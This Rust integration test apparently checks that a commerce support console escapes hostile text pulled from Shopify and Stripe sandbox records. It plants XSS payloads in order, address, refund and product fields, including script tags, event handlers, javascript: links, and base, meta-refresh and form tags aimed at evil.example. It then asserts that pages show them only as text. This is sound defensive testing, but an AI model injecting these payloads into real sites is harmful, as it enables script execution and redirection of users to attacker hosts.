//! What stands in a backend's records: each field that takes any text is hostile, and every page
//! that shows it shows text. Which fields there are, the packs themselves say.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use countersign_core::contract::{Body, output_json};
use countersign_executor::packs;
use countersign_proto::v1;
use countersign_shared::attest::marked;
use countersign_tests::sandbox::{OrderText, StaffAct, StripeAct};
use reqwest::StatusCode;
use serde_json::{Value, json};

use super::super::one_time_page::{mailed, page_from_the_next_start};
use super::super::stale_approval::House;
use super::super::stale_approval::authenticator::Passkey;
use super::super::stale_approval::page::Page;
use super::super::stripe::PERMIT;
use super::super::support::browser;
use super::super::support::change::{add_pack, shipped_pack};
use super::super::support::hook::Hook;
use super::super::support::pair::Pair;
use super::super::support::plans::{Desk, fields, list, model, seen, step, value};
use super::super::support::wishes;
use super::{looked_at, there};

const TITLE: &str = "title <script>alert(21)</script>";
/// Texts of an order. None is longer than what its field keeps.
const ORDER: [(OrderText, &str); 5] = [
    (OrderText::Title, TITLE),
    (OrderText::Variant, "variant\"><svg/onload=alert(22)>"),
    (OrderText::FirstName, "first' <b autofocus onfocus=alert(23)>"),
    (OrderText::LastName, "last</textarea></title></style><script>alert(24)</script>"),
    (OrderText::Address2, "floor <iframe srcdoc='<script>parent.alert(25)</script>'></iframe>"),
];
/// Street, city and postal code, as they are at first and as a colleague corrects them.
const FIRST: [&str; 3] = [
    "street <details open ontoggle=alert(31)>",
    "city <a href=javascript:alert(32)>go</a>",
    "zip<img onerror=a()>",
];
const THEN: [&str; 3] = [
    "lane <style>body{display:none}</style>",
    "town ]]><math><mi xlink:href=javascript:alert(35)>x</mi></math>",
    "pin<img onerror=b()>",
];
const NUMBER: &str = "number <base href=https://evil.example/>";
const CARRIER: &str = "carrier <img src=x onerror=alert(42)>";
const REFUND: &str = "refund <!--<img src=--><img src=x onerror=alert(43)//>";
const NOTE: &str = "note <form action=https://evil.example><input name=q></form>";
const PAYMENT: &str = "payment <meta http-equiv=refresh content='0;url=https://evil.example'>";
const PLAN: &str = "plan {{7*7}}${7*7}<%=7*7%><img src=x onerror=alert(52)>";
const PRODUCT: &str = "product \u{202e}txet\u{202c} <svg/onload=alert(53)>";

/// Texts that nobody writes into here: whom only the executor itself reads, days of a time, marks
/// of our own, and a switch of twenty characters.
const LEFT_OUT: [&str; 9] = [
    "shopify.match_order/orders/*/email",
    "shopify.order_effects/address_stamp",
    "shopify.track_shipment/parcel/delivered_day",
    "shopify.track_shipment/parcel/expected_day",
    "stripe.charge_refunds/refunds/*/marker",
    "stripe.get_price/self_service",
    "stripe.get_subscription/marker",
    "stripe.list_prices/prices/*/self_service",
    "stripe.list_subscriptions/subscriptions/*/marker",
];

const APPROVERS: &str = r#"
@id("stripe-approvers")
permit (principal is Staff, action == Action::"approve", resource in Pack::"stripe")
when { !principal.roles.isEmpty() };
"#;

fn stripe() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../executor/packs/stripe")
}

/// From a state of its own on, the house knows Stripe too; its changes are in this mode.
pub(super) fn widen(pair: &mut Pair, mode: &str) {
    add_pack(pair.dir.path(), "stripe", &stripe(), "acct_sandbox", &pair.sandbox.base_url());
    pair.change_config("[email, customer_id]", "[email, customer_id, stripe_customer]");
    pair.change_policy(
        |name, text| match name {
            "policy.cedar" => text + PERMIT + APPROVERS,
            "settings.yaml" => text.replace(
                "tools: [\"shopify.*\"], mode: auto",
                &format!("tools: [\"shopify.*\", \"stripe.*\"], mode: {mode}"),
            ),
            _ => text,
        },
        &[],
    );
    pair.begin_anew();
}

fn moved([street, city, zip]: [&str; 3]) -> StaffAct {
    let [address1, city, zip] = [street, city, zip].map(|text| Some(text.to_owned()));
    StaffAct::Address { address1, city, zip }
}

/// Writes the texts into the records of customer 1.
fn deface(pair: &Pair) {
    let write = |order: &str, field: OrderText, text: &str| {
        pair.sandbox.staff(order, &StaffAct::Text { field, text: text.to_owned() }).unwrap();
    };
    for (field, text) in ORDER {
        write("#1001", field, text);
    }
    pair.sandbox.staff("#1001", &moved(FIRST)).unwrap();
    write("#1003", OrderText::RefundNote, REFUND);
    let shipped = StaffAct::Fulfill { tracking_number: Some(NUMBER.to_owned()) };
    pair.sandbox.staff("#1004", &shipped).unwrap();
    write("#1004", OrderText::Carrier, CARRIER);
    let cancelled = StaffAct::Cancel { staff_note: Some(NOTE.to_owned()) };
    pair.sandbox.staff("#1005", &cancelled).unwrap();
    for (object, text) in [
        ("ch_Sandbox1", PAYMENT),
        ("sub_Sandbox1", PLAN),
        ("sub_Sandbox2", PLAN),
        ("prod_Starter", PRODUCT),
        ("prod_Studio", PRODUCT),
        ("prod_Team", PRODUCT),
    ] {
        let act = StripeAct::Text { object: object.to_owned(), text: text.to_owned() };
        pair.sandbox.stripe_staff(&act).unwrap();
    }
}

/// What the reads that yield texts yield.
async fn everything(desk: &mut Desk<'_>) -> Vec<v1::Observation> {
    let mut all = Vec::new();
    for (number, tools) in [
        ("1001", &["get_order", "order_effects", "suggest_refund"][..]),
        ("1003", &["order_effects"][..]),
        ("1004", &["track_shipment"][..]),
        ("1005", &["cancellation"][..]),
    ] {
        let order = desk.order(number).await.unwrap();
        for tool in tools {
            let mut arguments = vec![("order_id", seen(&order, "/orders/0/id"))];
            if *tool == "suggest_refund" {
                let line_id = seen(&all[0], "/lines/0/id");
                let line = fields(vec![("line_id", line_id), ("quantity", model(&json!(1)))]);
                arguments.push(("lines", list(vec![line])));
            }
            let read = step(&format!("shopify.{tool}"), arguments);
            all.push(desk.read(read).await.unwrap());
        }
    }
    for (tool, one, name, id) in [
        ("list_charges", "get_charge", "charge_id", "/charges/0/id"),
        ("list_subscriptions", "get_subscription", "subscription_id", "/subscriptions/0/id"),
        ("list_prices", "get_price", "price_id", "/prices/0/id"),
    ] {
        let several = desk.read(step(&format!("stripe.{tool}"), vec![])).await.unwrap();
        let arguments = vec![(name, seen(&several, id))];
        let read = step(&format!("stripe.{one}"), arguments);
        all.extend([desk.read(read).await.unwrap(), several]);
    }
    all
}

/// Each text that a read yields, by its path, and whether what was found there is hostile.
fn texts(at: &str, yields: &Value, found: &Value, all: &mut BTreeMap<String, bool>) {
    match yields {
        Value::String(label) if label == "text" => {
            let hostile = found.as_str().is_some_and(|text| text.contains('<'));
            *all.entry(at.to_owned()).or_default() |= hostile;
        }
        Value::Object(fields) => {
            for (name, field) in fields {
                texts(&format!("{at}/{name}"), field, &found[name.as_str()], all);
            }
        }
        Value::Array(of) => {
            // Of an empty list the elements' texts count all the same.
            texts(&format!("{at}/*"), &of[0], &Value::Null, all);
            for one in found.as_array().into_iter().flatten() {
                texts(&format!("{at}/*"), &of[0], one, all);
            }
        }
        _ => {}
    }
}

/// The texts of all packs that were nowhere hostile.
fn harmless(read: &[v1::Observation]) -> Vec<String> {
    let catalog = packs::load(&[shipped_pack(), stripe()]).unwrap();
    let mut harmless = Vec::new();
    for contract in catalog.tools.values().filter(|tool| matches!(tool.body, Body::Read(_))) {
        let (yields, mut all) = (output_json(contract), BTreeMap::new());
        texts("", &yields, &Value::Null, &mut all);
        for found in read.iter().filter(|found| found.tool == contract.tool) {
            texts("", &yields, &value(found), &mut all);
        }
        let nowhere = all.into_iter().filter(|(_, hostile)| !hostile);
        harmless.extend(nowhere.map(|(path, _)| format!("{}{path}", contract.tool)));
    }
    harmless
}

/// As a page's bytes have a text.
pub(super) fn escaped(text: &str) -> String {
    let marks = [('&', "&#38;"), ('<', "&#60;"), ('>', "&#62;"), ('"', "&#34;"), ('\'', "&#39;")];
    marks
        .iter()
        .fold(marked(text).into_owned(), |text, (mark, as_text)| text.replace(*mark, as_text))
}

/// In the page's bytes each of them is there as text, and nothing of them as anything else.
pub(super) fn plain(page: &str, some: &[&str]) {
    for text in some {
        assert!(page.contains(&escaped(text)), "{text} is not shown as text in: {page}");
    }
    let main = page.split("<main").nth(1).unwrap();
    for alive in [
        "<script",
        "<img",
        "<svg/",
        "<iframe",
        "<style",
        "<base",
        "<meta",
        "<math",
        "<form action",
        "<details open",
        "<a href=javascript",
        "\u{202e}",
    ] {
        assert!(!main.contains(alive), "{alive} in {page}");
    }
}

/// The customer says yes, and the request waits for staff.
pub(super) async fn confirmed(desk: &mut Desk<'_>, step: v1::Step) -> String {
    let proposal = desk.propose(step).await.unwrap();
    let yes = desk.yes(&proposal);
    let action = desk.execute(&proposal, &yes).await.unwrap();
    assert_eq!(action.state(), v1::ActionState::Proposed, "{action:?}");
    proposal.proposal_id
}

/// A customer moves; answers with the request.
async fn to_elm_street(desk: &mut Desk<'_>) -> String {
    let order = desk.order("1001").await.unwrap();
    let arguments = vec![
        ("order_id", seen(&order, "/orders/0/id")),
        ("address1", desk.say("to 5 Elm Street", "5 Elm Street")),
        ("city", desk.say("in Salem", "Salem")),
        ("zip", desk.say("zip 04102", "04102")),
    ];
    confirmed(desk, step("shopify.change_address", arguments)).await
}

/// Hands over all that was read; answers with the path of the matter.
async fn handed_over(desk: &mut Desk<'_>, read: &[v1::Observation], alice: &Page<'_>) -> String {
    let request = v1::EscalateRequest {
        subject_token: desk.who.token.clone(),
        conversation_id: desk.conversation.clone(),
        messages: desk.words.clone(),
        reason: v1::EscalationReason::Distress.into(),
        request: "Please call me".to_owned(),
        observation_ids: read.iter().map(|seen| seen.observation_id.clone()).collect(),
        ..Default::default()
    };
    desk.client.escalate(request).await.unwrap();
    let waiting = alice.read("/escalations").await;
    let id = waiting.split("href=\"/escalations/").nth(1).unwrap().split('"').next().unwrap();
    format!("/escalations/{id}")
}

#[tokio::test(flavor = "multi_thread")]
async fn console_xss_every_text_of_a_backend_stays_text() {
    let hook = Hook::start().await;
    let mut house = House::staffed("[support_lead]", "Alice Example").await;
    let phone = page_from_the_next_start(&house.pair, &hook);
    widen(&mut house.pair, "approve, by: [support_lead]");
    deface(&house.pair);
    let mut desk = Desk::new(&house.pair, wishes::customer(&house.pair), "c1");
    let read = everything(&mut desk).await;
    assert_eq!(harmless(&read), LEFT_OUT, "a text that is new: write into it above");
    let alice = Page::signed_in(&house.origin, &house.alice).await;

    // On the customer's own page.
    let order = desk.order("1001").await.unwrap();
    let whole = desk.whole(&order).await.unwrap();
    let refund = desk.refund_step(&order, &whole);
    desk.confirm_by_link = true;
    let refund = desk.propose(refund).await.unwrap().proposal_id;
    desk.confirm_by_link = false;
    let link = mailed(&hook, 2, "customer1@example.com").await;
    plain(&phone.read(&link).await, &[TITLE]);
    let steps = looked_at(&link, &phone.origin, "Do you want this?");
    if let Some(read) = browser::play(&house.pair, None, Value::from(steps)).await {
        assert_eq!(read[0], "0", "{read:?}");
        there(&read[1], &[TITLE]);
    }
    let card = phone.card(&link).await;
    assert_eq!(phone.post(&link, &card, "yes").await.status(), StatusCode::SEE_OTHER);

    // Before staff; the address is corrected while its change waits.
    let charges = desk.read(step("stripe.list_charges", vec![])).await.unwrap();
    let charge = step("stripe.refund_charge", vec![("charge_id", seen(&charges, "/charges/0/id"))]);
    let charge = format!("/approve/{}", confirmed(&mut desk, charge).await);
    let mut moving = Desk::new(&house.pair, wishes::customer(&house.pair), "c2");
    let old = format!("/approve/{}", to_elm_street(&mut moving).await);
    let refund = format!("/approve/{refund}");
    plain(&alice.read(&refund).await, &[TITLE]);
    plain(&alice.read(&charge).await, &[PAYMENT]);
    plain(&alice.read(&old).await, &FIRST);
    plain(&alice.read("/approvals").await, &[&[TITLE, PAYMENT][..], &FIRST].concat());
    house.pair.sandbox.staff("#1001", &moved(THEN)).unwrap();
    let changed = alice.read(&old).await;
    assert!(changed.contains("Changed meanwhile"), "{changed}");
    plain(&changed, &[FIRST, THEN].concat());
    let matter = handed_over(&mut desk, &read, &alice).await;
    let of_orders = ORDER.map(|(_, text)| text);
    let others = [NUMBER, CARRIER, REFUND, NOTE, PAYMENT, PLAN, PRODUCT];
    let handed = [&of_orders[..], &FIRST, &others].concat();
    plain(&alice.read(&matter).await, &handed);

    // In a receipt, and among what was done.
    let new = to_elm_street(&mut moving).await;
    assert_eq!(alice.answer(&new, "approve", "").await.status(), StatusCode::OK);
    let erin = Page::signed_in(&house.origin, &house.erin).await;
    let done = erin.read("/actions?tool=shopify.change_address&outcome=applied").await;
    plain(&done, &[]);
    let receipt = done.split("href=\"/actions/").nth(1).expect("it was carried out");
    let timeline = format!("/actions/{}", receipt.split('"').next().unwrap());
    plain(&erin.read(&timeline).await, &THEN);

    let pages = [
        (&*refund, "Waits for a yes or no", vec![TITLE]),
        (&*charge, "Waits for a yes or no", vec![PAYMENT]),
        (&*old, "Changed meanwhile", [FIRST, THEN].concat()),
        ("/approvals", "Waiting", vec![TITLE, PAYMENT]),
        (&*matter, "Waits for a person", handed),
    ];
    in_a_browser(&house, &house.alice, &pages).await;
    let pages =
        [("/actions", "Actions", vec![]), (&*timeline, "shopify.change_address", THEN.to_vec())];
    in_a_browser(&house, &house.erin, &pages).await;
}

/// Looks at each page with what is folded opened: nothing came alive, and its texts are there.
pub(super) async fn in_a_browser(house: &House, who: &Passkey, pages: &[(&str, &str, Vec<&str>)]) {
    let mut steps = vec![
        json!({ "open": format!("{}{}", house.origin, pages[0].0) }),
        json!({ "wait": "h1", "text": "Sign in" }),
        json!({ "click": "#sign-in button" }),
        json!({ "wait": "h1", "text": pages[0].1 }),
    ];
    for (path, title, _) in pages {
        let mut looked = looked_at(path, &house.origin, title);
        if path.starts_with("/escalations/") {
            looked.insert(2, json!({ "click": "main > details > summary" }));
        }
        steps.extend(looked);
    }
    let passkey = Some(who.for_browser());
    let Some(read) = browser::play(&house.pair, passkey, Value::from(steps)).await else { return };
    assert!(read.iter().step_by(2).all(|alive| alive == "0"), "{read:?}");
    for ((_, _, texts), page) in pages.iter().zip(read.iter().skip(1).step_by(2)) {
        there(page, texts);
    }
}
